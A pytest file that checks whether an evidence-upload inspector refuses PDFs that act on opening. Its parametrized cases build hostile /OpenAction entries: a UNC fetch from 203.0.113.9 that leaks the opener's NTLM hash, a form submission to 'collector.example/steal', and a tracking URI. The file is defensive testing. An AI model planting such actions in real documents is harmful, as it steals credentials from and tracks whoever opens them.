"""Probe of the evidence intake with PDFs that act as they are opened without any script: an
/OpenAction that fetches a remote file (a UNC path: Windows sends the opener's NTLM hash),
submits a form to a web address or opens one. The intake refuses what runs on opening (ADR 24);
a plain go-to (open at a page) stays harmless."""

from __future__ import annotations

from pathlib import Path

import pytest
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests import evidence_files as files
from tradehall.membership.evidence import EvidenceRefused, inspect


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


@pytest.mark.parametrize(
    "action",
    [
        _action("/GoToR", F="\\\\203.0.113.9\\share\\x.pdf"),
        _action("/SubmitForm", F="https://collector.example/steal"),
        _action("/URI", URI="https://tracker.example/opened"),
        _action("/Thread", F="\\\\203.0.113.9\\share\\x.pdf"),
        _action("/Sound"),
    ],
    ids=["gotor-unc", "submit-form", "uri", "thread", "sound"],
)
def test_a_pdf_that_acts_on_opening_is_refused(tmp_path: Path, action: DictionaryObject) -> None:
    path = tmp_path / "upload.pdf"
    path.write_bytes(files.pdf(action=action))

    with pytest.raises(EvidenceRefused, match="on opening"):
        inspect(path)


def test_a_pdf_that_opens_at_a_page_is_taken(tmp_path: Path) -> None:
    path = tmp_path / "upload.pdf"
    path.write_bytes(files.pdf(action=_action("/GoTo", D="chapter-1")))

    assert inspect(path).content_type == "application/pdf"
